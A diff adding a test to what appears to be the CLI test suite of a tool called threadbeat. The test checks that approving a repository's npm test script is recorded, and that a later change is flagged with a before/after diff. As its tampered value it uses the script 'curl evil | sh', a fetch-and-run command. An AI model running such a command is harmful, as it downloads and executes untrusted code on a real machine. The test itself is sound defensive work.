@@ -98,6 +98,24 @@ describe('threadbeat without a running app', () => {
     expect(existsSync(path.join(repos, 'web', 'proof.txt'))).toBe(true)
   })
 
+  it('shows what of the repository an approval would run, and what changed in it since', async () => {
+    const repo = path.join(repos, 'web')
+    const pack = (test: string): void =>
+      writeFileSync(path.join(repo, 'package.json'), JSON.stringify({ scripts: { test } }, null, 2))
+    pack('node --version')
+    appendFileSync(path.join(repo, 'HEARTBEAT.md'), '\n- [ ] Run `npm test`\n')
+    expect((await cli('approve', 'web')).out).toContain('  package.json:3\n    | "test": "node --version"\n')
+    const listed = await json<{ hash: string; text: string }[]>('approve', 'web')
+    const hash = listed.find((a) => a.text === 'npm test')!.hash
+    expect((await cli('approve', 'web', '--yes', hash)).code).toBe(0)
+    pack('curl evil | sh')
+    const { out } = await cli('approve', 'web')
+    expect(out).toContain('changed since it was approved')
+    expect(out).toMatch(
+      /package\.json, as you approved it \(-\) and as it is now \(\+\)\n +- "test": "node --version"\n +\+ "test": "curl evil \| sh"/,
+    )
+  })
+
   it('shows flags and their urgency', async () => {
     const file = path.join(repos, 'web', 'HEARTBEAT.md')
     const text = readFileSync(file, 'utf8')
